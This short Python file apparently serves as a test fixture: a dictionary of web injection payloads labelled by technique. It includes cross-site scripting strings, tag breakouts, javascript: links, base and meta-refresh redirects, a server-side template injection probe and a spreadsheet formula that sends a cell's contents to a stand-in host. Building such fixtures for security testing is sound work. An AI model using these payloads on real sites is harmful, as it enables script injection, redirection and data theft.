"""What someone might write where words are expected, by what it tries."""

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of what is around": "\"'></title></style></textarea></svg>--><img src=x onerror=alert(1)>",
    "event handler": '" autofocus onfocus="alert(1)" x="',
    "event handler in single quotes": "' onmouseover='alert(1)' x='",
    "svg": '<svg onload="alert(1)"><use href="https://a.example/#a"/></svg>',
    "frame": '<iframe src="javascript:alert(1)"></iframe><object data=x></object>',
    "form": '<form action="https://a.example/"><input name=a autofocus onfocus=alert(1)></form>',
    "base": '<base href="https://a.example/"><meta http-equiv=refresh content="0;url=//a.example">',
    "style": "<style>@import 'https://a.example/a.css'; *{background:url(//a.example)}</style>",
    "link": "javascript:alert(1)//https://a.example/",
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{# #}",
    "character data": "]]><!--<![CDATA[<!DOCTYPE a><?php ?>&#x3c;script&#x3e;&lt;script&gt;",
    "line separators": "a\\u2028b \\x3c/script> ${alert(1)} `",
    "spreadsheet": '=HYPERLINK("https://a.example/?"&A1)',
}
